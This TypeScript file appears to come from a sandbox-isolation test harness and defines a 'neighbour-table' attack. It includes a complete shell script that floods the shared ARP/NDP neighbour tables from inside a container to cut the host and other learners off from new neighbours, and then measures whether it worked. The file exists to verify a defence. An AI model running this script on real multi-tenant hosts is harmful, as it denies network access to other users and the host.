import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import type { Attack } from './attacks.js';

/**
 * The kernel keeps one neighbour table per address family (ARP for IPv4, NDP for IPv6) for every
 * network namespace on the host: the host's own, each sandbox's and each of their inner
 * containers'. An entry younger than 5 s is never reclaimed for a newcomer, so whoever adds
 * `gc_thresh3` entries (1,024 by default) within 5 s leaves everyone else without a new one: the
 * host cannot reach a new neighbour and another learner's sandbox, once its gateway's entry is
 * gone, reaches nothing (not even the mirror). Root in a sandbox has CAP_NET_ADMIN in its own
 * network namespace (its inner daemon needs it): `ip neigh add` there is all it takes.
 *
 * Bounded: the attacker adds entries for 16 s on links of its own (IPv6 ones in an inner container,
 * IPv6 being off in the sandbox's own namespace), then deletes them (which removes their entries);
 * a host where it works is without new neighbours for those seconds. Setup raises `gc_thresh3`
 * (infra/host/ensure-host-limits.ts) above what the host's CPUs can keep young.
 */

const ATTACK_SECONDS = 16;
/** Addresses per family: more than one CPU can keep younger than 5 s (it adds about 25,000 a second). */
const ADDRESSES = 200_000;

/**
 * Two lists of the same addresses with two link-layer addresses: replacing an entry with the other
 * one makes it new again (younger than 5 s), and creates it if it is not there. In files of 25,000
 * lines (one `ip -batch` of 200,000 grows past 400 MB).
 */
const batches = (family: 4 | 6, device: string) =>
  ['a', 'b'].map((list, i) => {
    const mac = `02:00:00:00:00:0${i + 1}`;
    const line =
      family === 4
        ? `"neigh replace 10.%d.%d.%d lladdr ${mac} nud stale dev ${device}\\n", 64+int(i/65536), int(i/256)%256, i%256`
        : `"neigh replace fd00:dead::%x:%x lladdr ${mac} nud stale dev ${device}\\n", int(i/65536), i%65536`;
    return `awk 'BEGIN{for(i=0;i<${ADDRESSES};i++) printf ${line}}' | split -l 25000 - /tmp/neigh${family}${list}.`;
  });
/** Adds and renews entries of one family (`ip` run through `$RUN`) until the time is up. */
const renewLoop = (family: 4 | 6, run: string) =>
  `( p=0; while [ $SECONDS -lt $end ]; do for l in a b; do for f in /tmp/neigh${family}$l.*; do ${run} ip -${family} -force -batch $f >/dev/null 2>&1; done; p=$((p+1)); done; done; echo "PASSES${family} $p" ) &`;
const NEIGH_SH = [
  'ip link add dyatk0 type veth peer name dyatk1 || exit 1',
  'ip link set dyatk0 up; ip link set dyatk1 up',
  // IPv6 is off in the sandbox's namespace (its /proc/sys is read-only): a veth end moved into an
  // inner container started with IPv6 on (its namespace's entries count in the same table).
  'docker run -d --name neigh6 --sysctl net.ipv6.conf.all.disable_ipv6=0 --sysctl net.ipv6.conf.default.disable_ipv6=0 --entrypoint sleep postgres:15 120 >/dev/null',
  "P6=$(docker inspect -f '{{.State.Pid}}' neigh6); ip link add dyatk6 type veth peer name dyatk7; ip link set dyatk7 up; ip link set dyatk6 netns $P6; nsenter -t $P6 -n ip link set dyatk6 up",
  ...batches(4, 'dyatk0'),
  ...batches(6, 'dyatk6'),
  'echo NEIGH-START',
  `end=$((SECONDS+${ATTACK_SECONDS}))`,
  renewLoop(4, ''),
  renewLoop(6, 'nsenter -t $P6 -n'),
  'wait; ip link del dyatk0; docker rm -f neigh6 >/dev/null; rm -f /tmp/neigh4?.* /tmp/neigh6?.*; echo NEIGH-DONE',
].join('\n');

/** The global count of a neighbour table and its limit, from `ip -s ntable` (init namespace: the table is one for all). */
function neighbourTable(family: 4 | 6): { entries: number; thresh3: number } {
  const text = execFileSync('ip', [`-${family}`, '-s', 'ntable', 'show', 'name', family === 4 ? 'arp_cache' : 'ndisc_cache'], { stdio: ['ignore', 'pipe', 'pipe'] }).toString();
  return { entries: Number(/entries (\d+)/.exec(text)?.[1] ?? NaN), thresh3: Number(/thresh3 (\d+)/.exec(text)?.[1] ?? NaN) };
}

/**
 * What the host's root gets when it needs a new neighbour of each family now: a throwaway network
 * namespace with a veth pair (no interface on the host's side), one entry of each family added there.
 */
function hostNewNeighbour(): string {
  const namespace = `dyatk-neigh-${process.pid}-${randomBytes(3).toString('hex')}`;
  const ip = (...args: string[]) => execFileSync('ip', ['-n', namespace, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
  const attempt = (label: string, run: () => unknown) => {
    try {
      run();
      return `${label} ok`;
    } catch (error) {
      return `${label} FAILED (${String((error as { stderr?: Buffer }).stderr ?? error).trim().slice(0, 80)})`;
    }
  };
  try {
    execFileSync('ip', ['netns', 'add', namespace]);
    ip('link', 'add', 'dyka', 'type', 'veth', 'peer', 'name', 'dykb');
    ip('link', 'set', 'dyka', 'up');
    return [
      attempt('IPv4', () => ip('neigh', 'add', '192.0.2.2', 'lladdr', '02:00:00:00:00:02', 'nud', 'stale', 'dev', 'dyka')),
      attempt('IPv6', () => ip('-6', 'neigh', 'add', '2001:db8::2', 'lladdr', '02:00:00:00:00:02', 'nud', 'stale', 'dev', 'dyka')),
    ].join(', ');
  } finally {
    try {
      execFileSync('ip', ['netns', 'delete', namespace], { stdio: 'ignore' });
    } catch {
      // never made
    }
  }
}

/** The victim forgets its neighbours (its gateway's entry too) and fetches from the mirror: it needs a new entry to. */
const victimMirror = (port: number) => `ip neigh flush dev eth0; curl -s -m 5 -o /dev/null -w 'MIRROR=%{http_code}\\n' http://mirror.dockyard:${port}/v2/`;
const mirrorCode = (output: string) => /MIRROR=(\d{3})/.exec(output)?.[1] ?? 'none';

export const neighbourTableAttacks: Attack[] = [
  {
    id: 'neighbour-table',
    title: "fill the neighbour (ARP/NDP) tables every network namespace shares: the host and other learners get no new neighbour",
    async run({ attacker, victim, engine }) {
      const before = mirrorCode((await victim.run(victimMirror(engine.config.REGISTRY_PORT), 30_000)).output);
      // Without a working fetch before, a failing one during would prove nothing.
      if (before !== '200') throw new Error(`the victim could not fetch from the mirror before the attack (${before})`);
      await attacker.run(`cat > /tmp/neigh.sh <<'SHEOF'\n${NEIGH_SH}\nSHEOF`);
      const peak = { 4: 0, 6: 0 };
      const watch = setInterval(() => {
        for (const family of [4, 6] as const) peak[family] = Math.max(peak[family], neighbourTable(family).entries);
      }, 200);
      try {
        attacker.learner.type('bash /tmp/neigh.sh > /tmp/neigh.log 2>&1 & sleep 0.5; until grep -q NEIGH-START /tmp/neigh.log; do sleep 0.2; done; echo NEIGH-$((6*7))-GO\r');
        await attacker.learner.waitForOutput(/NEIGH-42-GO/, 60_000);
        // Past the attacker's first 5 s: from then on it renews what it holds.
        await new Promise((resolve) => setTimeout(resolve, 7000));
        const host = hostNewNeighbour();
        const during = mirrorCode((await victim.run(victimMirror(engine.config.REGISTRY_PORT), 30_000)).output);
        const { output } = await attacker.run('wait; cat /tmp/neigh.log; rm -f /tmp/neigh.sh /tmp/neigh.log', 120_000);
        const passes = (family: 4 | 6) => Number(new RegExp(`^PASSES${family} (\\d+)`, 'm').exec(output)?.[1] ?? 0);
        if (!/NEIGH-DONE/.test(output)) throw new Error(`the attack did not run: ${output.replace(/\s+/g, ' ').slice(-160)}`);
        const after = mirrorCode((await victim.run(victimMirror(engine.config.REGISTRY_PORT), 30_000)).output);
        const limits = { 4: neighbourTable(4).thresh3, 6: neighbourTable(6).thresh3 };
        const succeeded = /FAILED/.test(host) || during !== before;
        // Held off only because the tables never filled (Debian's limit is 1,024): the attack did not run.
        if (!succeeded && (peak[4] < 1024 || peak[6] < 1024)) {
          throw new Error(`the attack did not fill the tables (peaks ${peak[4]} ARP, ${peak[6]} NDP entries): ${output.replace(/\s+/g, ' ').slice(-160)}`);
        }
        return {
          succeeded,
          evidence:
            `${ATTACK_SECONDS} s of renewing ${ADDRESSES} entries per family (${passes(4)} and ${passes(6)} passes); the host's tables peaked at ${peak[4]} ARP (limit ${limits[4]}) and ${peak[6]} NDP (limit ${limits[6]}) entries; ` +
            `meanwhile a new neighbour of the host's root: ${host}; another learner, its neighbours flushed, fetched from the mirror: ${during} (before ${before}, after ${after})`,
        };
      } finally {
        clearInterval(watch);
        await attacker.run('kill %1 2>/dev/null; wait; ip link del dyatk0 2>/dev/null; ip link del dyatk7 2>/dev/null; docker rm -f neigh6 >/dev/null 2>&1; rm -f /tmp/neigh.sh /tmp/neigh.log /tmp/neigh4?.* /tmp/neigh6?.*; true', 60_000).catch(() => undefined);
      }
    },
  },
];
